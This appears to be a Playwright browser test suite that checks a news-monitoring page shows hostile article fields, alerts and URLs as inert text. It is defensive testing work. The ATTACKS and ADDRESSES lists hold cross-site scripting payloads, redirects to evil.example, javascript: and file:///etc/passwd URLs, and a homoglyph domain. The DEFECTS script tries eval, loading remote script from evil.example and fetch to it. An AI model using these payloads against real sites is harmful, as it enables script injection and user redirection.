"""Whoever writes a headline writes to this page: nothing of it runs, loads, navigates, or turns what stands around it."""

# ruff: noqa: RUF001 - letters that look like others are among the attacks

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from articles_made import alert, article, dead_letter, entity, published, trend

if TYPE_CHECKING:
    from collections.abc import Callable

    from playwright.sync_api import Locator, Page

    from page_server import PageServer
    from visits import Visits

pytestmark = pytest.mark.browser

ATTACKS = [
    "<script>window.hit = 1; alert(1)</script>",
    '<img src=x onerror="window.hit = 1; alert(1)">',
    "\"'><svg/onload=window.hit=1><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<style>*{display:none}</style><base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "</script></style></title></textarea><a href=javascript:window.hit=1 id=bait>x</a><form action=//evil.example><input autofocus onfocus=window.hit=1>",
    "{{constructor.constructor('window.hit=1')()}}${window.hit=1}<%= hit %>",
    "javascript:window.hit=1//http://a.example/",
    "\u202egnp.exe\u2066 \u200f\u061c\u2067 \x1b]0;x\x07 \x00 \ufeff \ufffe \u2028 \u2029",
    "__proto__",
    "constructor",
    "مرحبا بالعالم <b>تجربة</b>",
    "Ķ̸̢̧̛͉̬͙̺̠̗̯͙̠͖̝̟̯̩͎̖̗̰̲̙͚̗͓̣͔̯̮͚̰̈́̂̓̋͛̀̀̊̈́̍̓̍̍͗̓̈́̈́̓̅̽̾̈́̚̕͜͝ͅ" * 20,
]
ADDRESSES = [
    "javascript:window.hit=1",
    "JaVaScRiPt:alert(1)//https://a.example",
    "data:text/html,<script>parent.hit=1</script>",
    "vbscript:x",
    "//evil.example/x",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "https://good.example@evil.example/",
    "https://аррӏе.com/",
    " \tjavascript:alert(1)",
]
DEFECTS = """() => {
  window.tried = 0;
  const attempts = [
    () => { document.body.innerHTML = "<img id=fetched src=x onerror=window.hit=1>"; },
    () => eval("window.hit = 1"),
    () => setTimeout("window.hit = 1"),
    () => document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" })),
    () => document.body.append(Object.assign(document.createElement("img"), { src: "https://evil.example/x.png" })),
    () => fetch("https://evil.example/").catch(() => 0),
  ];
  for (const attempt of attempts) {
    setTimeout(() => { try { attempt(); } catch { window.stopped = 1; } finally { window.tried += 1; } });
  }
}"""
"""What a mistake in the page's own scripts could come to."""
FORBIDDEN = "script:not([src]), iframe, img, object, embed, form:not(#filters), base, style, svg:not(.sparkline, .brand svg), meta[http-equiv]"


def everywhere(attack: str) -> dict[str, Any]:
    """Return an article with the attack in every field that may hold any text."""
    text = f"{attack}\n\n{attack} Putin {attack}"
    named = entity("Putin", text) | {"name": attack, "id": attack, "links": {attack: attack}}
    return article(
        text,
        title=attack,
        lede=attack,
        source=attack,
        agency=attack,
        raw_id=attack,
        byline=[{"name": attack, "role": attack}],
        dateline={"publisher": attack, "place": attack},
        images=[{"caption": attack, "credit": attack, "source": attack}],
        entities=[named, named | {"mentions": [{"text": attack, "start": 0, "end": len(attack), "zone": "body"}]}],
        sentiment=None,
        sentiment_reason=attack,
        models={attack: attack},
        story={"id": attack, "duplicate_of": attack, "copies": 3, "original": attack},
        version=3,
        novelty={"12h": 1, "24h": 1, "3d": 1, "7d": 1, attack: attack},
        changes={
            "fields": [attack],
            "added": 1,
            "removed": 2,
            "reordered": True,
            "shown": [{"change": "added", "at": 0, "text": attack}],
        },
    )


def harmless(page: Page) -> None:
    """Nothing ran, and nothing is there that could."""
    assert page.evaluate("window.hit") is None
    assert page.locator(FORBIDDEN).count() == 0
    assert page.locator("a").evaluate_all("links => links.filter((a) => !/^https?:$/.test(a.protocol)).length") == 0
    attributes = "all => all.flatMap((e) => e.getAttributeNames()).filter((name) => name.startsWith('on'))"
    assert page.locator("*").evaluate_all(attributes) == []


def each_row(page: Page, rows: Locator, count: int) -> None:
    """Open one after the other and look."""
    expect(rows).to_have_count(count)
    for number in range(count):
        # Where the text of a row turns its own direction or is very tall, the row still has its place and size.
        rows.nth(number).click()
        expect(page.locator("#reading .kicker, #reading .notice").first).to_be_visible()
        harmless(page)


@pytest.mark.parametrize("locale", ["id-ID", "en-GB"])
def test_no_attack_in_any_field_of_an_article_does_anything(
    visit: Callable[..., Page], publish: Callable[..., None], locale: str
) -> None:
    publish(*(published(everywhere(attack), key="content_hash") for attack in ATTACKS))
    page = visit(locale=locale, size={"width": 1440, "height": 2000})
    each_row(page, page.locator("li.row button"), len(ATTACKS))
    page.locator("summary").click()
    harmless(page)
    for attack in ATTACKS[:6]:
        page.locator("input[name=text]").fill(attack)
        harmless(page)
    page.locator("input[name=text]").fill("")
    page.locator("select[name=source]").select_option(ATTACKS[0])
    page.locator("#reading .entity").first.click()
    page.locator("#trends-list button").first.click()
    harmless(page)


def test_the_text_is_shown_as_it_is(visit: Callable[..., Page], publish: Callable[..., None]) -> None:
    publish(published(everywhere(ATTACKS[0]), key="content_hash"))
    page = visit()
    page.locator("li.row button").click()
    expect(page.locator("#reader-title")).to_have_text(ATTACKS[0])
    expect(page.locator(".text p").first).to_have_text(ATTACKS[0])
    expect(page.locator("li.row .source")).to_have_text(ATTACKS[0])


def test_no_attack_in_a_dead_letter_an_alert_or_a_trend_does_anything(
    visit: Callable[..., Page], publish: Callable[..., None]
) -> None:
    # A line break in a header comes through as it is.
    reasons = ("stage", "reason", "exception__message", "topic", "exception__stacktrace")
    made = json.loads(alert().value or b"")
    for attack in ATTACKS:
        because = [made["because"][0] | {"wanted": attack, "text": attack}]
        publish(
            dead_letter(attack.encode(), attack.encode(), **dict.fromkeys(reasons, attack)),
            alert(
                rule={"id": attack, "version": attack, "title": attack, "owner": attack},
                article=made["article"] | {"title": attack, "source": attack, "url": attack},
                because=because,
            ),
            trend(entity_id=attack),
        )
    page = visit(size={"width": 1440, "height": 3200})
    expect(page.locator("#alerts-count")).to_have_text(str(len(ATTACKS)))
    expect(page.locator("#letters-list button")).to_have_count(len(ATTACKS))
    for number in range(len(ATTACKS)):
        page.locator("#letters-list button").nth(number).click()
        expect(page.locator("#reading pre")).to_be_visible()
        harmless(page)


def test_only_web_addresses_become_links_and_show_their_host(
    visit: Callable[..., Page], publish: Callable[..., None]
) -> None:
    publish(*(published(article(title=f"T{n}", url=url)) for n, url in enumerate(ADDRESSES)))
    page = visit(size={"width": 1440, "height": 2000})
    shown = {}
    expect(page.locator("li.row")).to_have_count(len(ADDRESSES))
    for number, address in enumerate(ADDRESSES):
        page.locator("li.row .headline", has_text=f"T{number}").click()
        expect(page.locator("#reader-title")).to_have_text(f"T{number}")
        links = page.locator("#reading a")
        shown[address] = links.first.inner_text() if links.count() else None
        harmless(page)
    # Whom it looks like stands before the @ or in other letters; the host that is shown is the one that is asked.
    assert {address: text for address, text in shown.items() if text} == {
        "https://good.example@evil.example/": "Read it at evil.example ↗",
        "https://аррӏе.com/": "Read it at xn--80ak6aa92e.com ↗",
    }


def test_sizes_without_measure(visit: Callable[..., Page], publish: Callable[..., None]) -> None:
    long = "A" * 1_000_000
    text = "Putin " * 100_000
    many = [entity("Putin", "Putin") | {"id": f"e{n}", "name": f"N{n}", "salience": 0.0001} for n in range(3_000)]
    publish(
        published(article("Putin tiba.", title=long, source=long[:5000], byline=[{"name": long[:9000], "role": "x"}]))
    )
    publish(published(article(text, title="Panjang", entities=many)))
    page = visit()
    page.locator("li.row", has_text="AAAA").get_by_role("button").click()
    expect(page.locator("#reading .notice")).to_contain_text("Too long for this page, and cut here: ")
    assert len(page.locator("#reader-title").inner_text()) == 2_000
    page.locator("li.row", has_text="Panjang").get_by_role("button").click()
    expect(page.locator("#reader-title")).to_have_text("Panjang")
    expect(page.locator("#reading .notice")).to_contain_text("entities")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_what_breaks_the_contract_is_counted_and_not_shown(
    visit: Callable[..., Page], publish: Callable[..., None]
) -> None:
    broken = [{"id": "1"}, {**article(), "text": 5}, {**article(), "entities": "<b>"}, []]
    records = [published(article(title="Satu"))]
    publish(
        *(each.__class__(each.topic, b"k", json.dumps(value).encode(), ()) for value in broken for each in records),
        *records,
    )
    page = visit()
    expect(page.locator("li.row")).to_have_count(1)
    expect(page.locator("#lost")).to_have_text("4 records kept no contract and are not shown.")


def test_the_policy_stops_what_a_defect_of_ours_would_let_through(visits: Visits, server: PageServer) -> None:
    page = visits.open(server.address)
    # In a later turn: what the driver runs itself stands above the policy.
    page.evaluate(DEFECTS)
    page.wait_for_function("window.tried === 6 && window.violations.length >= 6")
    assert page.evaluate("window.hit") is None
    assert page.locator("#fetched").count() == 0
    # These breaches were meant.
    page.evaluate("window.violations.length = 0")
    assert visits.troubles != []
    visits.troubles.clear()
